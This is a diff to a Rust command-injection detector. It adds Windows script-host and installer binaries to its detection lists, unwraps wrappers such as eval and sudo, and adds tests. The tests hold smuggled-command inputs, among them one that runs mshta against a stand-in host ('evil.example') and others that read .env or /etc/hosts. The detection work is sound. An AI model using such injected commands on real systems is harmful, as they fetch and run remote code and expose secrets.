@@ -68,6 +68,14 @@ const UNAMBIGUOUS: &[&str] = &[
     "chattr",
     "iptables",
     "netsh",
+    "mshta",
+    "regsvr32",
+    "rundll32",
+    "cscript",
+    "wscript",
+    "msiexec",
+    "forfiles",
+    "busybox",
 ];
 
 /// Commands of Windows shells, which ignore case (`DIR`, `Net User`); Unix shells do not, so
@@ -115,7 +123,26 @@ const WINDOWS: &[&str] = &[
     "shutdown",
     "timeout",
     "choice",
+    "mshta",
+    "regsvr32",
+    "rundll32",
+    "cscript",
+    "wscript",
+    "msiexec",
+    "forfiles",
 ];
+
+/// Commands that run the command named by their arguments (`eval id`, `nice -n 5 id`,
+/// `env A=1 id`): the one they run is the one to judge.
+const WRAPPERS: &[&str] = &[
+    "eval", "command", "builtin", "exec", "env", "time", "nice", "nohup", "sudo", "doas", "xargs",
+    "timeout", "setsid", "stdbuf", "ionice", "busybox",
+];
+
+/// Wrappers followed through (`builtin eval whoami`).
+const MAX_WRAPPERS: usize = 3;
+/// Options and numbers skipped after a wrapper to find the command it runs.
+const MAX_WRAPPER_ARGS: usize = 4;
 
 /// Bytes after a substituted command within which its closing `)` or backtick must come.
 const SUBSTITUTION_REACH: usize = 200;
@@ -150,18 +177,21 @@ fn argument_shape(command: &str, args: &str) -> Option<Shape> {
     if args.chars().next().is_some_and(|c| {
         !matches!(
             c,
-            ' ' | '\n' | ';' | '|' | '&' | '`' | ')' | '>' | '<' | '\'' | '"'
+            ' ' | '\n' | ';' | '|' | '&' | '`' | ')' | '>' | '<' | '\'' | '"' | '#'
         )
     }) {
         return None;
     }
+    let glued_comment = args.starts_with('#');
     // A line break ends the command in the lines view.
     let args = args.split('\n').next().unwrap_or("").trim_start();
     let first = args
         .split([' ', ';', '|', '&', '`', ')'])
         .next()
         .unwrap_or("");
-    if first.is_empty() {
+    // A comment ends the command line; `#` glued to the command, or standing alone (a
+    // hashtag after a space is more likely chat).
+    if first.is_empty() || glued_comment || first.bytes().all(|b| b == b'#') {
         return Some(Shape::Empty);
     }
     Some(if shell_shaped(command, first, args) {
@@ -183,6 +213,8 @@ fn shell_shaped(command: &str, first: &str, args: &str) -> bool {
         || (b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':')
         || first.contains('*')
         || first.starts_with("2>")
+        // A dotfile (`.env`, `.ssh/id_rsa`).
+        || (b[0] == b'.' && b.get(1).is_some_and(u8::is_ascii_alphanumeric))
     {
         return true;
     }
@@ -252,6 +284,48 @@ fn command_words() -> Vec<&'static str> {
         .collect()
 }
 static WINDOWS_SET: LazyLock<WordSet> = LazyLock::new(|| WordSet::new(WINDOWS));
+static WRAPPER_SET: LazyLock<WordSet> = LazyLock::new(|| WordSet::new(WRAPPERS));
+
+/// The command a wrapper command word ending at `end` runs (`eval id`, `nice -n 5 id`), as
+/// its name and end; the word itself when it wraps nothing known.
+fn wrapped_command(text: &str, name: &str, end: usize) -> (usize, usize) {
+    let (mut name_start, mut name_end) = (end - name.len(), end);
+    for _ in 0..MAX_WRAPPERS {
+        if !WRAPPER_SET.contains(&text[name_start..name_end]) {
+            break;
+        }
+        let mut at = name_end;
+        let mut found = None;
+        for _ in 0..=MAX_WRAPPER_ARGS {
+            let Some(token_start) = text[at..].strip_prefix(' ').map(|_| at + 1) else {
+                break;
+            };
+            let token_len = text[token_start..]
+                .find([' ', ';', '|', '&', '`', ')', '\n'])
+                .unwrap_or(text.len() - token_start);
+            let token = &text[token_start..token_start + token_len];
+            let skipped = token.starts_with('-')
+                || token.contains('=')
+                || token.bytes().all(|b| b.is_ascii_digit() || b == b'.');
+            if !skipped {
+                let word = token
+                    .bytes()
+                    .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
+                    .count();
+                found =
+                    (word > 0 && word <= LONGEST_COMMAND && COMMAND_SET.contains(&token[..word]))
+                        .then_some((token_start, token_start + word));
+                break;
+            }
+            at = token_start + token_len;
+        }
+        match found {
+            Some(inner) => (name_start, name_end) = inner,
+            None => break,
+        }
+    }
+    (name_start, name_end)
+}
 
 /// `$(cmd ...)` or `` `cmd ...` `` opened at `start` and closed after the command word
 /// ending at `end`: the shell runs the command whatever its arguments look like.
@@ -284,6 +358,8 @@ pub fn chained_command(text: &str, _start: usize, end: usize, view: View) -> boo
         .rsplit(['/', '\\'])
         .next()
         .unwrap_or(command_path);
+    let (name_start, end) = wrapped_command(text, name, end);
+    let name = &text[name_start..end];
     // Every message's JSON keys come here (a key "id" starts its view): decide without
     // allocating until the arguments have to be read.
     if name.bytes().any(|b| b.is_ascii_uppercase()) && !WINDOWS_SET.contains(name) {
@@ -372,6 +448,22 @@ mod tests {
         assert!(chained_command("id\nfoo", 0, 2, View::Lines));
         assert!(!check("curl/7.31.0-DEV", 0, "curl"));
         assert!(check("; cmd.exe /c dir", 0, "cmd"));
+        assert!(check("x;id #", 1, "id"));
+        assert!(check("x|whoami#", 1, "whoami"));
+        assert!(check("x;cat .env", 1, "cat"));
+        assert!(check("& mshta http://evil.example/x.hta", 0, "mshta"));
+    }
+
+    #[test]
+    fn wrappers_are_judged_by_what_they_run() {
+        assert!(check("x;eval id", 1, "eval"));
+        assert!(check("x;command -p id", 1, "command"));
+        assert!(check("x;builtin eval whoami", 1, "builtin"));
+        assert!(check("x;nice -n 5 cat /etc/hosts", 1, "nice"));
+        assert!(check("x;env A=1 id", 1, "env"));
+        assert!(!check("so; time to go", 2, "time"));
+        assert!(!check("ok; nice id card", 2, "nice"));
+        assert!(!check("lol; command center is ready", 3, "command"));
     }
 
     #[test]
@@ -382,6 +474,7 @@ mod tests {
         assert!(!check("cat food is great", 0, "cat"));
         assert!(!check("so; time for bed", 2, "time"));
         assert!(!check("it costs $(more than you think", 2, "more"));
+        assert!(!check("done; ls #1 priority", 4, "ls"));
     }
 
     #[test]
